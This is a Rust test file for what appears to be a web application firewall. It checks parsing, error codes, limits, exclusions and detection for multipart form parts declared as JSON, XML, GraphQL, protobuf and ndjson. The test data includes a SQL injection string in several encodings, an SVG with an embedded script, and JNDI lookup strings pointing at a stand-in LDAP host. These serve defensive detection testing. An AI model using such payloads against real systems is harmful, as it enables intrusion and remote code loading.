//! Parts of forms that say what they are.

use super::bodies::field;
use super::elements::leaving_out;
use super::once::looking;
use super::*;

const ATTACK: &str = "1' OR '1'='1";
const BLOB: &str = "filename=\"blob\"";

/// A form with these parts: what its disposition says, its type, its content.
fn form(parts: &[(&str, &str, &[u8])]) -> Asked {
    let mut body = Vec::new();
    for (said, kind, content) in parts {
        body.extend_from_slice(b"--b\r\nContent-Disposition: form-data; ");
        body.extend_from_slice(said.as_bytes());
        if !kind.is_empty() {
            body.extend_from_slice(b"\r\nContent-Type: ");
            body.extend_from_slice(kind.as_bytes());
        }
        body.extend_from_slice(b"\r\n\r\n");
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(b"--b--\r\n");
    let mut asked = post("multipart/form-data; boundary=b", "");
    asked.body = body;
    asked
}

/// A part named `meta`, as browsers send a `Blob`, or as a field.
fn meta(file: bool, kind: &str, content: impl AsRef<[u8]>) -> Asked {
    let said = match file {
        true => format!("name=\"meta\"; {BLOB}"),
        false => "name=\"meta\"".to_owned(),
    };
    form(&[(&said, kind, content.as_ref())])
}

fn places(asked: &Asked) -> Vec<String> {
    let inspection = inspect(&looking(), asked, 0);
    let found = inspection.detected();
    let sql = found.filter(|found| found.detector == "sql-injection");
    sql.map(|found| found.place.unwrap_or_default()).collect()
}

fn unfit(asked: &Asked) -> Option<&'static str> {
    let [engine, _] = both("SecAction \"id:1,phase:2,pass\"");
    let inspection = inspect(&engine, asked, 0);
    inspection.body_unfit().map(|reason| reason.code)
}

#[test]
fn a_part_is_read_as_what_it_says_it_is() {
    let json = format!(
        r#"{{"id": 1, "note": "{}"}}"#,
        "1\\u0027 OR \\u00271\\u0027='1"
    );
    let lines = format!("{{\"a\": 1}}\n{{\"a\": \"{ATTACK}\"}}\n");
    let xml = format!("<order><at>x</at><by>{}</by></order>", "1&#39; OR '1'='1");
    let query = format!("{{ user(name: \"{ATTACK}\") {{ id }} }}");
    let in_json = format!(r#"{{"query": "{{ user(name: \"{ATTACK}\") {{ id }} }}"}}"#);
    let message = field(1, ATTACK.as_bytes());
    let encoded = b"a=b&id=1%27+OR+%271%27%3D%271";
    for (kind, content, place) in [
        ("application/json", json.as_bytes(), "body/meta/note"),
        (
            "Application/JSON; charset=UTF-8",
            json.as_bytes(),
            "body/meta/note",
        ),
        ("application/vnd.a+json", json.as_bytes(), "body/meta/note"),
        ("application/x-ndjson", lines.as_bytes(), "body/meta/1/a"),
        ("application/xml", xml.as_bytes(), "body/meta/order/by"),
        (
            "application/x-www-form-urlencoded",
            &encoded[..],
            "body/meta/id",
        ),
        (
            "application/graphql",
            query.as_bytes(),
            "body/meta/graphql.user.name",
        ),
        (
            "application/json",
            in_json.as_bytes(),
            "body/meta/graphql.user.name",
        ),
        (
            "application/x-protobuf",
            &message[..],
            "body/meta/protobuf.1",
        ),
    ] {
        for file in [true, false] {
            let asked = meta(file, kind, content);
            assert_eq!(places(&asked), [place], "{kind} {file}");
            assert_eq!(unfit(&asked), None, "{kind} {file}");
        }
    }
}

#[test]
fn rules_see_the_part_and_what_is_in_it() {
    let json = r#"{"a.b": ["x y"], "c": "d"}"#;
    for (rule, file) in [
        ("ARGS:meta.json.a.b.array_0 \"@streq x y\"", true),
        ("ARGS_POST:meta.json.c \"@streq d\"", false),
        ("ARGS_NAMES \"@streq meta.json.c\"", true),
        ("FILES \"@streq blob\"", true),
        ("FILES_NAMES \"@streq meta\"", true),
        ("ARGS:meta \"@contains x y\"", false),
    ] {
        let rule = format!("SecRule {rule} \"id:1,phase:2,log,pass\"");
        let asked = meta(file, "application/json", json);
        assert_eq!(matched(&rule, &asked), [1], "{rule}");
    }
    let rule = "SecRule XML:/* \"@streq xy\" \"id:1,phase:2,log,pass\"\n\
                SecRule XML://@* \"@streq z\" \"id:2,phase:2,log,pass\"";
    let xml = "<a b=\"z\"><c>x</c><c>y</c></a>";
    assert_eq!(matched(rule, &meta(true, "text/xml", xml)), [1, 2]);
}

#[test]
fn each_part_is_read_by_itself() {
    let attack = format!(r#"{{"note": "{ATTACK}"}}"#);
    let note = "name=\"a/b\"; filename=\"n.json\"";
    let json = "application/json";
    let asked = form(&[
        ("name=\"one\"", json, b"[1, 2]"),
        (note, json, attack.as_bytes()),
        ("name=\"text\"", "", b"{"),
        ("name=\"form\"", "application/x-www-form-urlencoded", b"a=b"),
        ("name=\"two\"", json, attack.as_bytes()),
        ("name=\"none\"", json, b""),
    ]);
    assert_eq!(places(&asked), ["body/a~1b/note", "body/two/note"]);
    assert_eq!(unfit(&asked), None);
    // The text of an element is one, as it is in a body.
    let mixed = "<order><note>1' OR<b/> '1'='1</note></order>";
    let asked = meta(true, "application/xml", mixed);
    assert_eq!(places(&asked), ["body/meta/order/note"]);
}

#[test]
fn what_is_wrong_with_a_part_is_wrong_with_the_form() {
    let deep = format!("{}1{}", "[".repeat(200), "]".repeat(200));
    let wide: Vec<u8> = "{\"a\": 1}"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    for (kind, content, code) in [
        ("application/json", &b"{\"a\": 1"[..], "json-end"),
        (
            "application/json",
            b"{\"a\": 1, \"a\": 2}",
            "json-duplicate-key",
        ),
        ("application/json", b"{} x", "json-trailing"),
        ("application/json", deep.as_bytes(), "json-depth"),
        ("application/json", &wide, "json-syntax"),
        (
            "application/json; charset=utf-16",
            b"{}",
            "multipart-charset",
        ),
        (
            "application/json; a=\"charset\"; charset=utf-16",
            b"{}",
            "multipart-charset",
        ),
        (
            "application/x-ndjson",
            b"{}\n{\"a\": 1, \"a\": 2}",
            "json-duplicate-key",
        ),
        ("application/xml", b"<a>", "xml-end"),
        ("text/xml", b"<!DOCTYPE a []><a/>", "xml-doctype"),
        ("application/graphql", b"{ user(", "graphql-syntax"),
        ("application/x-protobuf", b"\x0a\x09", "grpc-not-protobuf"),
        (
            "application/json\r\nContent-Type: text/plain",
            b"{}",
            "multipart-header",
        ),
        (
            "text/plain\r\ncontent-type: application/json",
            b"{}",
            "multipart-header",
        ),
        ("text/plain, application/json", b"{}", "multipart-header"),
        ("multipart/mixed; boundary=c", b"", "multipart-nested"),
    ] {
        for file in [true, false] {
            assert_eq!(unfit(&meta(file, kind, content)), Some(code), "{kind}");
        }
        // Also where good ones come before and behind.
        let good = ("name=\"a\"", "application/json", &b"{}"[..]);
        let asked = form(&[good, ("name=\"b\"", kind, content), good]);
        assert_eq!(unfit(&asked), Some(code), "{kind}");
    }
}

#[test]
fn what_is_no_such_part_stays_what_it_was() {
    let drawn = "<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"a\" \"b\"><svg/>";
    for (kind, content) in [
        ("image/svg+xml", drawn),
        ("Image/SVG+XML ; charset=utf-8", drawn),
        ("text/plain", "{"),
        ("application/octet-stream", "{"),
        ("", "{"),
    ] {
        assert_eq!(unfit(&meta(true, kind, content)), None, "{kind}");
    }
    // Other pictures are not written in what is read here.
    assert_eq!(unfit(&meta(true, "image/a+json", "{")), Some("json-end"));
    assert_eq!(
        unfit(&meta(true, "image/a+xml", drawn)),
        Some("xml-doctype")
    );
    // Without a file's name it is a value that says that it is XML.
    let asked = meta(false, "image/svg+xml", drawn);
    assert_eq!(unfit(&asked), Some("xml-doctype"));
    // A field that is read by nothing is looked at as one text.
    let asked = meta(false, "text/plain", ATTACK);
    assert_eq!(places(&asked), ["body/meta"]);
    // A file is judged as a file too, whatever it says.
    let page = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
    let inspection = inspect(&looking(), &meta(true, "text/xml", page), 0);
    assert!(inspection
        .detected()
        .any(|found| found.detector == "file-upload"));
}

#[test]
fn a_form_that_is_cut_off_ends_somewhere() {
    let [engine, _] = both("SecAction \"id:1,phase:2,pass\"");
    let bad = r#"{"a": 1, "a": 2}"#;
    for (first, unfit) in [("{}", Some("multipart-end")), (bad, Some("multipart-end"))] {
        let json = "application/json";
        let mut asked = form(&[
            ("name=\"a\"", json, first.as_bytes()),
            ("name=\"b\"", json, b"{\"a\": \"12345678"),
        ]);
        let end = asked.body.len() - b"\r\n--b--\r\n".len();
        asked.body.truncate(end);
        let mut inspection = inspect_head(&engine, &asked);
        while inspection.body(&asked.body, false) == Progress::More {}
        let told = inspection.body_unfit().map(|reason| reason.code);
        assert_eq!(told, unfit);
    }
}

#[test]
fn limits_hold_over_all_parts() {
    let json = "application/json";
    let many = format!("[{}]", vec!["1"; 60_000].join(","));
    let one = ("name=\"a\"", json, many.as_bytes());
    let overflowed = |asked: &Asked| {
        let [engine, _] = both("SecArgumentsLimit 100000");
        inspect(&engine, asked, 0).overflowed()
    };
    assert!(!overflowed(&form(&[one])));
    assert!(overflowed(&form(&[one, one])));
    // The length of a part's name counts at each value.
    let said = format!("name=\"{}\"", "n".repeat(3_900));
    let many = format!("[{}]", vec!["1"; 9_000].join(","));
    assert_eq!(
        unfit(&form(&[(&said, json, many.as_bytes())])),
        Some("json-name-too-long")
    );
}

#[test]
fn a_large_part_is_read_in_slices() {
    let json = "application/json";
    let large = format!("[\"{}\"]", vec!["x".repeat(1000); 2000].join("\",\""));
    let asked = form(&[
        ("name=\"a\"", json, large.as_bytes()),
        ("name=\"b\"", json, b"[1]"),
    ]);
    let [engine, _] = both("SecRule ARGS:b.json.array_0 \"@streq 1\" \"id:1,phase:2,log,pass\"");
    let mut inspection = inspect_head(&engine, &asked);
    let mut slices = 0;
    while inspection.body(&asked.body, true) == Progress::More {
        slices += 1;
    }
    assert!(slices > asked.body.len() / SLICE_BYTES, "{slices}");
    while inspection.request_body() == Progress::More {}
    assert_eq!(ids(&inspection), [1]);
}

#[test]
fn an_exclusion_names_a_value_of_a_part() {
    let asked = meta(
        true,
        "application/json",
        format!(r#"{{"note": "{ATTACK}"}}"#),
    );
    for (at, left) in [
        ("body/meta/note", 0),
        ("body/meta/other", 1),
        ("body/note", 1),
    ] {
        assert_eq!(
            inspect(&leaving_out(at), &asked, 0).detected().count(),
            left
        );
    }
}

#[test]
fn header_fields_of_parts_are_looked_at() {
    let found = |asked: &Asked| -> Vec<String> {
        let inspection = inspect(&looking(), asked, 0);
        let told = inspection.detected();
        told.filter(|found| found.detector == "jndi-lookup")
            .map(|found| found.place.unwrap_or_default())
            .collect()
    };
    let lookup = "text/plain\r\nX-Note: ${jndi:ldap://a.example/b}";
    assert_eq!(found(&meta(false, lookup, "x")), ["body/meta"]);
    let lookup = "text/plain; a=${jndi:ldap://a.example/b}";
    assert_eq!(found(&meta(true, lookup, "x")), ["body/meta"]);
    // What a file is called counts once.
    let said = "name=\"a\"; filename=\"${jndi:ldap://a.example/b}\"";
    assert_eq!(found(&form(&[(said, "", b"x")])), ["file/a"]);
    for kind in [
        "text/plain",
        "application/json; charset=utf-8",
        "image/png\r\nX-Sent-By: Mozilla/5.0 (X11; Linux x86_64)",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "text/plain\r\nContent-Length: 0\r\nContent-Transfer-Encoding: binary",
    ] {
        let inspection = inspect(&looking(), &meta(true, kind, ""), 0);
        assert_eq!(inspection.detected().count(), 0, "{kind}");
    }
}
